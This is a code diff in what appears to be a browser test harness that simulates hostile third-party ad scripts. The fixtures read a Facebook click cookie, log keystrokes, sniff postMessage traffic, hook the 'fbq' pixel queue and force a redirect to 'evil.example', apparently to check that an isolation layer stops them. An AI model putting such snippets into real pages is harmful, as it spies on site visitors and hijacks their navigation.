@@ -73,6 +73,13 @@ export async function fakeNetworks(context: BrowserContext, script?: string) {
   };
 }
 
+/** Facebook's, which looks for its click where it keeps it: once the page has been told. */
+export const CLICKS_READ = `{
+  ${SEND('facebook', 'www.facebook.com')}
+  fbq.callMethod = () => send(['cookie', /_fbc=([^;]*)/.exec(document.cookie)?.[1]]);
+  for (const call of fbq.queue.splice(0)) fbq.callMethod(...call);
+}`;
+
 /**
  * What a network's script would do that is out for the form: it reaches for the page, for every
  * other frame, for what the browser keeps and for whoever listens, and tells what came of each.
@@ -97,11 +104,15 @@ export const HOSTILE = `(async () => {
   await attempt('window', () => { if (!open('https://evil.example/')) throw new DOMException('', 'NotOpened'); });
   await attempt('navigation', () => { top.location.href = 'https://evil.example/'; });
   addEventListener('keydown', (event) => send(['key', 'got', event.key]), true);
-  addEventListener('message', ({ data }) => {
-    send(['heard ' + data.name, 'got', JSON.stringify(data)]);
+  // What the page says of other networks' clicks is in the message itself, which is not for it.
+  addEventListener('message', ({ data }) => send(['message', 'got', JSON.stringify(data)]), true);
+  const hear = (call) => {
+    send(['heard ' + call[1], 'got', JSON.stringify(call)]);
     // There is nothing to be heard after it.
-    if (data.name === 'purchase') setTimeout(() => { location.href = 'https://evil.example/'; }, 300);
-  });
+    if (call[1] === 'Purchase') setTimeout(() => { location.href = 'https://evil.example/'; }, 300);
+  };
+  fbq.callMethod = (...call) => hear(call);
+  for (const call of fbq.queue.splice(0)) hear(call);
   const reached = new Set();
   setInterval(() => {
     for (let index = 0; index < parent.frames.length; index += 1) {
